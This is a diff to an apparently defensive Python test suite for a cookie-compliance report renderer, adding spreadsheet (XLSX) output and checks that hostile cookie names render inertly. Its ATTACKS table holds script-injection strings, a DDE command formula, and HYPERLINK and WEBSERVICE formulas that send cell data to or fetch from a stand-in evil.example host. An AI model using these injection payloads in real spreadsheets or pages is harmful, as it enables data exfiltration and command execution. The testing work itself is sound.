@@ -15,6 +15,7 @@ from pathlib import Path
 
 import jsonschema
 import msgspec
+import openpyxl
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
@@ -23,9 +24,10 @@ from pypdf import PdfReader
 from compliance.assess import Bounds, assess
 from compliance.rules import load_pack
 from renderers import registry
+from renderers.fonts import REGULAR, font_for
 from renderers.json_document import report_json_schema
 from renderers.registry import RENDERERS, Renderer, render
-from schemas.errors import NotFound, PermanentError, RenderFailed
+from schemas.errors import InvalidEvent, NotFound, PermanentError, RenderFailed
 from schemas.reports import Format, HistoryPoint, Report
 from schemas.scans import Scan, decode_scan
 
@@ -79,7 +81,7 @@ class Page(HTMLParser):
             self._table = attributes.get("id") or "other"
         if tag == "tr" and self._table == "inventory":
             self.rows.append([])
-        if tag == "td" and self._table == "inventory":
+        if tag in ("td", "th") and self._in_body():
             self.rows[-1].append("")
         if tag not in self.VOID:
             self.open.append(tag)
@@ -95,8 +97,11 @@ class Page(HTMLParser):
     def handle_data(self, data):
         if self.open and self.open[-1] not in ("script", "style"):
             self.parts.append(data)
-        if "td" in self.open and self._table == "inventory":
+        if ("td" in self.open or "th" in self.open) and self._in_body():
             self.rows[-1][-1] += data
+
+    def _in_body(self) -> bool:
+        return self._table == "inventory" and "tbody" in self.open
 
 
 def pdf_text(data: bytes) -> str:
@@ -105,12 +110,25 @@ def pdf_text(data: bytes) -> str:
     return "".join("".join(page.extract_text().split()) for page in pages)
 
 
+def sheets_of(data: bytes) -> dict[str, list[list[object]]]:
+    """Every cell of a workbook by sheet and row; no cell is a formula or a link."""
+    sheets = {}
+    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)
+        sheets[sheet.title] = [list(row) for row in sheet.iter_rows(values_only=True)]
+    return sheets
+
+
 def text_of(format: Format, data: bytes) -> str:
     match format:
         case Format.PDF:
             return pdf_text(data)
         case Format.HTML:
             return "".join("".join(Page(data).parts).split())
+        case Format.XLSX:
+            cells = [cell for rows in sheets_of(data).values() for row in rows for cell in row]
+            return "".join("".join(str(cell or "") for cell in cells).split())
         case _:
             return "".join(data.decode("utf-8").split())
 
@@ -185,7 +203,15 @@ ATTACKS = {
     "handler": "' onmouseover='alert(1)",
     "comment": "<!-- --> ]]> <![CDATA[",
     "link": "javascript:alert(1)",
+    "markup of a shared string": "<r><t>x</t></r></si></sst><r>&unclosed;</r>",
+    "escape of a shared string": "_x0041_a_x000A_b_xD800_",
     "dde formula": "=cmd|' /C calc'!A0",
+    "link formula": '=HYPERLINK("https://evil.example/?"&A1,"here")',
+    "fetching formula": '=WEBSERVICE("https://evil.example/")',
+    "array formula": "{=1+1}",
+    "web link": "https://evil.example/",
+    "file link": "external:c:\\evil.xlsx",
+    "pipe": "|calc",
     "plus": "+1",
     "minus": "-2",
     "at": "@SUM(1+1)*cmd",
@@ -273,7 +299,6 @@ HIDDEN = frozenset(
     "\x00\x07\x1b\x7f\x85\t\r\n\u202e\u2066\u2069\u200f\u200b\ufeff\u00ad\u3164\u2800\ufe0f"
     "\u2028\u2029\ue000\uf8ff\uffff\U0010ffff"
 )
-NOT_DRAWN = HIDDEN | frozenset("＝中文名字")
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -287,7 +312,7 @@ def test_a_hostile_name_is_whole_and_visible_in_the_pdf(attack):
         # The name goes on over a page's head and foot; the inventory and the evidence show it.
         assert name.count("n") <= text.count("n")
     else:
-        assert as_shown(name, lambda char: ord(char) < 0x10000 and char not in NOT_DRAWN) in text
+        assert as_shown(name, lambda char: char not in HIDDEN and font_for(char, REGULAR)) in text
     assert "NEXT" in text
 
 
@@ -298,10 +323,8 @@ def test_a_long_name_loses_no_character_over_lines_and_pages():
     pages = PdfReader(io.BytesIO(data)).pages
     for page in pages:
         if page.mediabox.width > 800:  # the inventory, whose other cells hold no long numbers
-            lines = page.extract_text().split("\n")
-            found += [
-                line for line in lines if line.isdigit() and line not in ("1", str(len(pages)))
-            ]
+            words = page.extract_text().split()
+            found += [word for word in words if word.isdigit() and len(word) > 3]
     assert "".join(found) == name
 
 
@@ -321,7 +344,7 @@ def test_nothing_in_a_hostile_page_is_an_element_of_its_own(hostile):
         assert not any(name.startswith("on") or name in ("src", "style") for name in attributes)
         if "href" in attributes:
             assert tag == "a"
-            assert attributes["href"].startswith("https://")
+            assert attributes["href"].startswith(("https://", "#"))
 
 
 def test_every_hostile_name_has_its_row_in_the_page(hostile):
@@ -330,12 +353,22 @@ def test_every_hostile_name_has_its_row_in_the_page(hostile):
     assert len(rows) == len(ATTACKS)
     for row, name in zip(rows, ATTACKS.values(), strict=True):
         wanted = as_shown(name, lambda char: char not in HIDDEN) or sentence("(empty name)")
-        assert sentence(row[1]) in (wanted, "") or not name
+        # A name of blanks alone shows them, so that its cell is not empty.
+        assert sentence(row[1]) in (wanted, len(name) * "‹U+0020›") or not name
         if name.strip():
             assert sentence(row[1]) == wanted
 
 
-@pytest.mark.parametrize("format", [Format.PDF, Format.HTML, Format.CSV])
+def test_every_hostile_name_has_its_row_in_the_workbook(hostile):
+    rows = sheets_of(render(hostile, Format.XLSX))["Inventory"]
+    assert rows[0][:2] == ["No.", "Name"]
+    assert [row[0] for row in rows[1:]] == [*range(1, 1 + len(ATTACKS))]
+    for row, name in zip(rows[1:], ATTACKS.values(), strict=True):
+        wanted = as_shown(name, lambda char: char not in HIDDEN)
+        assert sentence(str(row[1] or "")) == (wanted if name else sentence("(empty name)"))
+
+
+@pytest.mark.parametrize("format", [Format.PDF, Format.HTML, Format.CSV, Format.XLSX])
 def test_no_format_for_people_holds_a_character_that_is_not_shown(format, hostile):
     text = text_of(format, render(hostile, format))
     assert not (HIDDEN - set("\t\r\n")) & set(text)
@@ -362,6 +395,33 @@ def test_the_table_gives_back_what_went_in():
     told = [row["name"] for row in rows]
     assert [name.removeprefix("'") for name in told] == [name.removeprefix("'") for name in names]
     assert data.count(b"\r\n") == len(names) + 1
+
+
+def test_half_a_surrogate_pair_never_gets_as_far_as_a_report():
+    for half in (b"\\ud800", b"a\\udfff", b"\xed\xa0\x80"):
+        with pytest.raises(InvalidEvent):
+            decode_scan(
+                b'{"scan_id":"5b8ff6a2-4c1e-4d6b-9d1c-0a4f2f6f3a11","domain":"example.org",'
+                b'"cookies":[{"name":"' + half + b'"}]}'
+            )
+
+
+@pytest.mark.parametrize(
+    ("format", "shown"),
+    [
+        (Format.PDF, "half‹U+D800›pair"),
+        (Format.HTML, "half‹U+D800›pair"),
+        (Format.CSV, "half\\ud800pair"),
+        (Format.XLSX, "half‹U+D800›pair"),
+    ],
+)
+def test_half_a_surrogate_pair_would_be_shown_as_a_mark(format, shown):
+    report = report_of(scan_with({"name": "whole"}))
+    broken = msgspec.structs.replace(report.cookies[0], name="half\ud800pair")
+    report = msgspec.structs.replace(report, cookies=(broken,))
+    assert shown in text_of(format, render(report, format))
+    with pytest.raises(RenderFailed, match="surrogates not allowed"):
+        render(report, Format.JSON)
 
 
 def test_the_json_report_is_the_report(hostile):
@@ -394,6 +454,8 @@ def test_no_cookie_name_stops_a_renderer_or_loses_a_row(names):
             assert len(rows) == 1 + len(names)
         elif format is Format.HTML:
             assert len([row for row in Page(data).rows if row]) == len(names)
+        elif format is Format.XLSX:
+            assert len(sheets_of(data)["Inventory"]) == 1 + len(names)
         elif format is Format.JSON:
             told = [cookie["name"] for cookie in json.loads(data)["cookies"]]
             assert told == [cookie.name for cookie in report.cookies]
@@ -402,7 +464,7 @@ def test_no_cookie_name_stops_a_renderer_or_loses_a_row(names):
 
 
 def test_a_renderer_that_stumbles_is_a_permanent_failure_with_its_cause(monkeypatch):
-    def stumble(_: Report) -> bytes:
+    def stumble(_report, _presentation) -> bytes:
         raise ZeroDivisionError("no width")
 
     monkeypatch.setitem(registry.RENDERERS, Format.PDF, Renderer(stumble, "x/y", ".x"))
@@ -413,7 +475,7 @@ def test_a_renderer_that_stumbles_is_a_permanent_failure_with_its_cause(monkeypa
 
 
 def test_an_error_of_our_own_tree_passes_unchanged(monkeypatch):
-    def refuse(_: Report) -> bytes:
+    def refuse(_report, _presentation) -> bytes:
         raise NotFound("gone")
 
     monkeypatch.setitem(registry.RENDERERS, Format.PDF, Renderer(refuse, "x/y", ".x"))
